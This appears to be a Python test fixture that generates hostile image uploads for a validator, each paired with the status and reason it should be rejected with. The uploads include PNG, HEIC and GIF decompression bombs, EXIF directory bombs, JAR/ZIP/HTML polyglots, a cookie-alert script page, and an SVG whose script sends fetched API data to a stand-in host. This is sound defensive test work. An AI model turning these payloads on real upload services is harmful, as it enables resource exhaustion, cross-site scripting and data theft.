"""The hostile-image corpus, generated here (no binary fixtures): HOSTILE files each with the
status and reason they must be refused with, ACCEPTED real photo shapes that must still be taken,
and CONCEALED_DAMAGE the codecs paint over. Every item is built from seeded bytes, lazily and once
(corpus_item)."""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from tests.support.images import jpeg_bytes

SEED = 20240611


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def photo(width: int = 640, height: int = 480, seed: int = SEED) -> Image.Image:
    """A textured RGB picture (noise upscaled: compresses like a photo, not like a flat fill)."""
    rng = random.Random(seed)
    small = Image.frombytes("RGB", (width // 8, height // 8), rng.randbytes((width // 8) * (height // 8) * 3))
    return small.resize((width, height), Image.Resampling.BICUBIC)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png(width: int, height: int, *, bit_depth: int = 8, colour_type: int = 2, rows: bytes | None = None,
        extra_chunks: tuple[bytes, ...] = ()) -> bytes:
    """A PNG written by hand: IHDR as given (CRC always right), IDAT holding `rows`, or zero rows
    compressed as a stream (a zeros image of any size costs only its compressed bytes)."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    if rows is None:
        row_bytes = 1 + (width * channels * bit_depth + 7) // 8
        compressor, parts = zlib.compressobj(9), []
        block = bytes(row_bytes) * max(1, min(height, (4 << 20) // max(row_bytes, 1)))
        remaining = row_bytes * height
        while remaining > 0:
            parts.append(compressor.compress(block[:remaining]))
            remaining -= len(block)
        parts.append(compressor.flush())
        idat = b"".join(parts)
    else:
        idat = zlib.compress(rows, 9)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + b"".join(extra_chunks)
            + b"".join(png_chunk(b"IDAT", idat[i:i + 65536]) for i in range(0, len(idat), 65536))
            + png_chunk(b"IEND", b""))


def with_jpeg_segment(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """The JPEG with one more segment right after SOI."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def with_frame_header(jpeg: bytes, *, width: int | None = None, height: int | None = None,
                      marker: int | None = None, precision: int | None = None) -> bytes:
    """The JPEG with its frame header (SOF0/SOF2) changed: the size it claims, its coding
    process (the marker) or its sample precision."""
    data = bytearray(jpeg)
    at = next((data.find(sof) for sof in (b"\xff\xc0", b"\xff\xc2") if data.find(sof) >= 0), -1)
    assert at >= 0, "no SOF marker"
    if marker is not None:
        data[at + 1] = marker
    if precision is not None:
        data[at + 4] = precision
    if width is not None or height is not None:
        old_height, old_width = struct.unpack_from(">HH", data, at + 5)
        data[at + 5:at + 9] = struct.pack(">HH", old_height if height is None else height,
                                          old_width if width is None else width)
    return bytes(data)


def zip_archive(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return buffer.getvalue()


JAR = {"META-INF__MANIFEST_dot_MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n",
       "Evil_dot_class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)}


def corrupt_middle(data: bytes, length: int = 512, seed: int = SEED) -> bytes:
    rng = random.Random(seed)
    middle = len(data) // 2
    return data[:middle] + rng.randbytes(length) + data[middle + length:]


def tiff_directory_bomb(entries: int, value_size: int) -> bytes:
    """A little-endian TIFF block (EXIF, MPF) whose first directory has `entries` entries, every
    one pointing at the same `value_size` bytes: a naive parser reads them again for each."""
    value_at = 8 + 2 + entries * 12 + 4
    directory = struct.pack("<H", entries) + b"".join(
        struct.pack("<HHII", 0xC000 + i, 7, value_size, value_at) for i in range(entries)) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + directory + bytes(value_size)


def exif_with_huge_directories() -> bytes:
    """IFD0 and the Exif IFD at the format's limit of 65,535 entries each (1.5 MB): Pillow walks
    every entry, ~0.4 s and ~40 MB per parse."""
    entries = 0xFFFF
    exif_at = 8 + 2 + entries * 12 + 4
    filler = b"".join(struct.pack("<HHI4s", (0x1000 + i) % 0x10000, 3, 1, b"\x01\x00\x00\x00")
                      for i in range(entries - 1))
    ifd0 = struct.pack("<HHHII", entries, 0x8769, 4, 1, exif_at) + filler + bytes(4)
    exif = struct.pack("<HHHI4s", entries, 0x9000, 7, 4, b"0232") + filler + bytes(4)
    return b"II*\x00" + struct.pack("<I", 8) + ifd0 + exif


def jpeg_with_app_block(marker: int, header: bytes) -> bytes:
    """A full 64 KB APP block: 2,700 directory entries sharing one 30 KB value (~80 MB read by a
    parser that does not stop at the block's size, as Pillow before 13 did not)."""
    payload = header + tiff_directory_bomb(2700, 30000)
    assert len(payload) <= 65533
    return with_jpeg_segment(jpeg_bytes(320, 240, seed=SEED), marker, payload)


def heic(image: Image.Image, *more: Image.Image, **params) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    image.save(buffer, "HEIF", quality=params.pop("quality", 80), save_all=bool(more), append_images=list(more),
               **params)
    return buffer.getvalue()


def heic_box(data: bytes, kind: bytes) -> int:
    at = data.find(kind)
    assert at >= 4, kind
    return at - 4


def heic_claiming(width: int, height: int) -> bytes:
    data = bytearray(heic(photo(320, 240)))
    at = heic_box(bytes(data), b"ispe")
    data[at + 12:at + 20] = struct.pack(">II", width, height)
    return bytes(data)


def heic_with_bad_item_location() -> bytes:
    """The item location box pointing the image data far beyond the end of the file."""
    data = bytearray(heic(photo(320, 240)))
    mdat = heic_box(bytes(data), b"mdat")
    at = data.find(struct.pack(">I", mdat + 8), heic_box(bytes(data), b"iloc"))
    assert 0 < at < mdat, "iloc offset not found"
    data[at:at + 4] = struct.pack(">I", 0x7FFF0000)
    return bytes(data)


def heic_with_noise_in_coded_data(at_fraction: float) -> bytes:
    data = heic(photo(640, 480))
    mdat = heic_box(data, b"mdat")
    start = mdat + 8 + int((len(data) - mdat - 8) * at_fraction)
    return data[:start] + random.Random(SEED).randbytes(2048) + data[start + 2048:]


def heic_bomb() -> bytes:
    """20 MP of flat colour: ~5 KB of HEIC that decodes to ~140 MB."""
    return heic(Image.new("RGB", (5000, 4000), (120, 90, 60)), quality=10, enc_params={"preset": "ultrafast"})


def gif_bomb() -> bytes:
    """A GIF whose screen and frame both claim 65535 x 65535 pixels."""
    data = bytearray(encode(Image.new("P", (1, 1)), "GIF"))
    data[6:10] = struct.pack("<HH", 0xFFFF, 0xFFFF)
    frame = data.find(b"\x2c", 13)
    data[frame + 5:frame + 9] = struct.pack("<HH", 0xFFFF, 0xFFFF)
    return bytes(data)


def animated(fmt: str, **params) -> bytes:
    frames = [photo(160, 120, seed=SEED + i) for i in range(3)]
    if fmt == "GIF":
        frames = [frame.convert("P") for frame in frames]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0, **params)


def noise_without_markers(data: bytes, length: int = 512) -> bytes:
    """Random bytes in the middle of a JPEG's coded data, none of them 0xFF: no marker appears,
    so only the Huffman decoder could notice (and libjpeg conceals, it does not fail)."""
    noise = bytes(byte % 255 for byte in random.Random(SEED).randbytes(length))
    middle = len(data) // 2
    return data[:middle] + noise + data[middle + length:]


SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">'
       b'<script>fetch("/api/v1/checkins").then(r => r.text()).then(t => new Image().src = "//x/?" + t)'
       b'</script><rect width="640" height="480" fill="tan"/></svg>\n')
SCRIPT_PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"


@functools.cache
def _jpeg() -> bytes:
    return jpeg_bytes(640, 480, seed=SEED)


@functools.cache
def _png() -> bytes:
    return encode(photo(320, 240), "PNG")


# id -> (builder, status, reason). Built lazily and once (see corpus_item), so collecting the
# tests costs nothing.
HOSTILE = {
    # nothing, or not a picture we take (415)
    "empty-file": (lambda: b"", 422, "IMAGE_EMPTY"),
    "svg-with-script": (lambda: SVG, 415, "IMAGE_FORMAT"),
    "html-named-selfie-jpg": (lambda: b"<!DOCTYPE html>" + SCRIPT_PAGE, 415, "IMAGE_FORMAT"),
    "gif-still": (lambda: encode(photo(64, 48).convert("P"), "GIF"), 415, "IMAGE_FORMAT"),
    "gif-animated": (lambda: animated("GIF"), 415, "IMAGE_FORMAT"),
    "webp-still": (lambda: encode(photo(64, 48), "WEBP"), 415, "IMAGE_FORMAT"),
    "webp-animated": (lambda: animated("WEBP", quality=50), 415, "IMAGE_FORMAT"),
    "tiff": (lambda: encode(photo(64, 48), "TIFF"), 415, "IMAGE_FORMAT"),
    "gif-bomb-65535x65535": (gif_bomb, 415, "IMAGE_FORMAT"),
    "gif-jar-polyglot": (lambda: encode(photo(64, 48).convert("P"), "GIF") + zip_archive(**JAR), 415, "IMAGE_FORMAT"),
    "jpeg-lossless-process": (lambda: with_frame_header(_jpeg(), marker=0xC3), 415, "IMAGE_FORMAT"),
    "jpeg-arithmetic-coded": (lambda: with_frame_header(_jpeg(), marker=0xC9), 415, "IMAGE_FORMAT"),
    # decompression bombs and headers that lie about the size (413, or 422 when the body is short)
    "png-bomb-30000x30000-zeros": (lambda: png(30000, 30000, bit_depth=1, colour_type=0), 413,
                                   "IMAGE_TOO_MANY_PIXELS"),
    "png-bomb-7000x7000-rgb-zeros": (lambda: png(7000, 7000), 413, "IMAGE_TOO_MANY_PIXELS"),
    "png-claims-100000x100000": (lambda: png(100000, 100000, rows=bytes(64)), 413, "IMAGE_TOO_MANY_PIXELS"),
    "jpeg-claims-65000x65000": (lambda: with_frame_header(_jpeg(), width=65000, height=65000), 413,
                                "IMAGE_TOO_MANY_PIXELS"),
    "heic-claims-60000x60000": (lambda: heic_claiming(60000, 60000), 413, "IMAGE_TOO_MANY_PIXELS"),
    "heic-bomb-5000x4000-flat": (heic_bomb, 413, "IMAGE_TOO_MANY_PIXELS"),
    "jpeg-claims-7000x7000-small-body": (lambda: with_frame_header(jpeg_bytes(320, 240, seed=SEED), width=7000,
                                                                   height=7000), 422, "IMAGE_CORRUPT"),
    "png-claims-4000x3000-small-body": (lambda: png(4000, 3000, rows=bytes(64)), 422, "IMAGE_CORRUPT"),
    # truncated, corrupt, random (422)
    "jpeg-truncated-half": (lambda: _jpeg()[:len(_jpeg()) // 2], 422, "IMAGE_CORRUPT"),
    "jpeg-header-only": (lambda: _jpeg()[:700], 422, "IMAGE_CORRUPT"),
    "jpeg-without-end-marker": (lambda: _jpeg()[:-2], 422, "IMAGE_CORRUPT"),
    "png-truncated-half": (lambda: _png()[:len(_png()) // 2], 422, "IMAGE_CORRUPT"),
    "jpeg-random-bytes-in-middle": (lambda: corrupt_middle(_jpeg()), 422, "IMAGE_CORRUPT"),
    "png-random-bytes-in-middle": (lambda: corrupt_middle(_png()), 422, "IMAGE_CORRUPT"),
    "jpeg-magic-then-random": (lambda: b"\xff\xd8\xff" + random.Random(SEED).randbytes(64 * 1024), 422,
                               "IMAGE_CORRUPT"),
    "png-magic-then-random": (lambda: b"\x89PNG\r\n\x1a\n" + random.Random(SEED).randbytes(64 * 1024), 422,
                              "IMAGE_CORRUPT"),
    "png-zero-width": (lambda: png(0, 240, rows=bytes(240)), 422, "IMAGE_CORRUPT"),
    "png-zero-height": (lambda: png(320, 0, rows=b""), 422, "IMAGE_CORRUPT"),
    "jpeg-zero-width": (lambda: with_frame_header(_jpeg(), width=0), 422, "IMAGE_CORRUPT"),
    "heic-truncated-in-header": (lambda: heic(photo(320, 240))[:1500], 422, "IMAGE_CORRUPT"),
    "heic-truncated-in-data": (lambda: heic(photo(320, 240))[:-100], 422, "IMAGE_CORRUPT"),
    "heic-bad-item-location": (heic_with_bad_item_location, 422, "IMAGE_CORRUPT"),
    "heic-random-nal-header": (lambda: heic_with_noise_in_coded_data(0.0), 422, "IMAGE_CORRUPT"),
    "heic-magic-then-random": (lambda: heic(photo(64, 48))[:32] + random.Random(SEED).randbytes(8192), 422,
                               "IMAGE_CORRUPT"),
    # polyglots: a picture that is also something else (422)
    "jpeg-with-zip-appended": (lambda: _jpeg() + zip_archive(**{"index.html": SCRIPT_PAGE}), 422, "IMAGE_POLYGLOT"),
    "jpeg-with-jar-appended": (lambda: _jpeg() + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    "jpeg-with-html-appended": (lambda: _jpeg() + b"\n" + SCRIPT_PAGE, 422, "IMAGE_POLYGLOT"),
    "jpeg-comment-with-script": (lambda: with_jpeg_segment(_jpeg(), 0xFE, SCRIPT_PAGE), 422, "IMAGE_POLYGLOT"),
    "png-text-chunk-with-script": (lambda: png(64, 48, rows=bytes(48 * (1 + 64 * 3)), extra_chunks=(
        png_chunk(b"tEXt", b"Comment\x00" + SCRIPT_PAGE),)), 422, "IMAGE_POLYGLOT"),
    "png-with-jar-appended": (lambda: _png() + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    "heic-with-zip-appended": (lambda: heic(photo(320, 240)) + zip_archive(**JAR), 422, "IMAGE_POLYGLOT"),
    # metadata built to make a parser read the same bytes thousands of times (422)
    "jpeg-exif-64kb-2700-entries": (lambda: jpeg_with_app_block(0xE1, b"Exif\x00\x00"), 422, "IMAGE_METADATA"),
    "jpeg-mpf-64kb-2700-entries": (lambda: jpeg_with_app_block(0xE2, b"MPF\x00"), 422, "IMAGE_METADATA"),
    "png-exif-two-directories-of-65535-entries": (lambda: png(64, 48, rows=bytes(48 * (1 + 64 * 3)), extra_chunks=(
        png_chunk(b"eXIf", exif_with_huge_directories()),)), 422, "IMAGE_METADATA"),
    "heic-exif-2700-entries": (lambda: heic(photo(320, 240), exif=b"Exif\x00\x00" + tiff_directory_bomb(2700, 30000)),
                               422, "IMAGE_METADATA"),
    # a taken format, but not a camera's still picture (422)
    "jpeg-cmyk": (lambda: encode(photo(320, 240).convert("CMYK"), "JPEG", quality=85), 422, "IMAGE_COLOR_MODE"),
    "jpeg-12-bit": (lambda: with_frame_header(_jpeg(), precision=12), 422, "IMAGE_BIT_DEPTH"),
    "png-16-bit-grey": (lambda: png(320, 240, bit_depth=16, colour_type=0), 422, "IMAGE_BIT_DEPTH"),
    "png-16-bit-rgb": (lambda: png(320, 240, bit_depth=16, colour_type=2), 422, "IMAGE_BIT_DEPTH"),
    "png-animated-apng": (lambda: animated("PNG"), 422, "IMAGE_ANIMATED"),
    "heic-two-images": (lambda: heic(photo(320, 240), photo(320, 240, seed=SEED + 1)), 422, "IMAGE_ANIMATED"),
    "heic-with-sequence-track": (lambda: heic(photo(320, 240)) + struct.pack(">I", 16) + b"moov" + bytes(8), 422,
                                 "IMAGE_ANIMATED"),
}


def camera_jpeg(image: Image.Image, **params) -> bytes:
    """A JPEG as a phone writes it: EXIF (orientation, time taken), XMP and an ICC profile."""
    from PIL import ImageCms

    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Phone"
    exif.get_ifd(0x8769)[0x9003] = "2024:06:11 08:01:02"
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>')
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(image, "JPEG", quality=88, exif=exif, xmp=xmp, icc_profile=icc, **params)


def mpo(image: Image.Image) -> bytes:
    return encode(image, "MPO", save_all=True, append_images=[image.resize((160, 120))])


# Real photos in the shapes phones send them: each must still be taken (and not by luck: every
# one goes through the new checks).
ACCEPTED = {
    "jpeg": lambda: _jpeg(),
    "jpeg-camera-exif-xmp-icc": lambda: camera_jpeg(photo(640, 480)),
    "jpeg-progressive": lambda: encode(photo(640, 480), "JPEG", quality=85, progressive=True),
    "jpeg-grey": lambda: encode(photo(640, 480).convert("L"), "JPEG", quality=85),
    "jpeg-mpo-with-preview-image": lambda: mpo(photo(640, 480)),
    "jpeg-motion-photo-video-trailer": lambda: _jpeg() + struct.pack(">I", 24) + b"ftypmp42" + bytes(12),
    "png-rgb": lambda: _png(),
    "png-rgba-blank": lambda: encode(Image.new("RGBA", (320, 240)), "PNG"),
    "png-palette": lambda: encode(photo(320, 240).convert("P"), "PNG"),
    "heic": lambda: heic(photo(320, 240)),
    "heic-with-exif": lambda: heic(photo(320, 240), exif=Image.Exif().tobytes()),
}

# Damage inside the compressed picture data that the codec conceals (libjpeg and libde265 paint
# over it and report no error): the file is whole and decodes, so it is answered like any photo.
CONCEALED_DAMAGE = {
    "jpeg-noise-without-marker-bytes": lambda: noise_without_markers(_jpeg()),
    "heic-noise-in-coded-data": lambda: heic_with_noise_in_coded_data(0.5),
}


@functools.cache
def corpus_item(name: str) -> bytes:
    builder = HOSTILE[name][0] if name in HOSTILE else ACCEPTED.get(name) or CONCEALED_DAMAGE[name]
    return builder()
